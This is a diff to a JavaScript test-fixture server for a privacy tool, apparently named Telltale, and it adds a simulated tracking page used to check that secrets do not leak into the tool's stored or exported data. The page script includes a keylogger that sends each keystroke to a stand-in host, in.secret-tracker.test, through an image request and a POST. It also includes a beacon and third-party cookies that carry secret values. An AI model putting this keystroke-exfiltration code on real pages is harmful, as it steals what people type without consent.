@@ -637,8 +637,57 @@ function framesPage() {
 </body></html>`;
 }
 
+// secret.example: a page whose every channel carries a secret of the
+// person's, for tests/e2e/privacy.mjs to look for in everything Telltale
+// keeps, exports and shows. Its URL has a reset token in the query and
+// another in the fragment; a third party sets a bare cookie (a value with no
+// name, sent back as a bare `Cookie:` pair) and a named one; a beacon carries
+// a secret in its query; a key logger sends what the person types in a query
+// and in a body. The secrets are new each server run.
+const secret = (what) => `Tt${what}${crypto.randomBytes(6).toString('hex')}`;
+export const SECRET = {
+  site: 'secret.example',
+  tracker: 'px.secret-tracker.test',
+  inbox: 'in.secret-tracker.test',
+  values: {
+    query: secret('Query'),
+    fragment: secret('Frag'),
+    bareCookie: secret('Bare'),
+    cookieValue: secret('Cookie'),
+    beacon: secret('Beacon'),
+    typed: secret('Typed'),
+    firstPartyCookie: secret('First'),
+  },
+};
+THIRD_PARTIES[SECRET.tracker] = () => ({
+  type: 'image/gif',
+  body: GIF,
+  headers: { 'set-cookie': [`${SECRET.values.bareCookie}; Path=/; Max-Age=86400; SameSite=None; Secure`, cookie('sid', SECRET.values.cookieValue)] },
+});
+THIRD_PARTIES[SECRET.inbox] = () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } });
+function secretPage() {
+  const v = SECRET.values;
+  return `<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><title>secret – fixture</title></head><body>
+<h1>Reset your password</h1>
+<form onsubmit="return false"><label>Note <input id="q" autocomplete="off"></label></form>
+<script>
+  document.cookie = '${v.firstPartyCookie}; Path=/; Max-Age=600';
+  var first = new Image();
+  first.onload = function () { var again = new Image(); again.src = 'https://${SECRET.tracker}/p.gif?n=2'; document.body.append(again); };
+  first.src = 'https://${SECRET.tracker}/p.gif?n=1';
+  navigator.sendBeacon('https://${SECRET.inbox}/b?q=${v.beacon}', 'x');
+  document.getElementById('q').addEventListener('input', function (e) {
+    var value = e.target.value;
+    new Image().src = 'https://${SECRET.inbox}/k?t=' + encodeURIComponent(value);
+    fetch('https://${SECRET.inbox}/k', { method: 'POST', body: 'typed=' + value, mode: 'no-cors' });
+  });
+</script>
+</body></html>`;
+}
+
 for (const h of [...HEAVY.hosts, HEAVY.longHost, DRIP.host]) THIRD_PARTIES[h] = () => ({ type: 'image/gif', body: GIF });
-const PAGES = { [FRAMES.site]: framesPage, [HEAVY.site]: heavyPage, [DRIP.site]: dripPage, [OPTOUT.site]: optoutPage, [BEHAVE.site]: behavePage, [RRWEB.site]: rrwebPage, [SCRIPT_HEAVY.site]: scriptHeavyPage, [SYNC.site]: syncPage };
+const PAGES = { [SECRET.site]: secretPage, [FRAMES.site]: framesPage, [HEAVY.site]: heavyPage, [DRIP.site]: dripPage, [OPTOUT.site]: optoutPage, [BEHAVE.site]: behavePage, [RRWEB.site]: rrwebPage, [SCRIPT_HEAVY.site]: scriptHeavyPage, [SYNC.site]: syncPage };
 
 // ---------------------------------------------------------------- the server
 
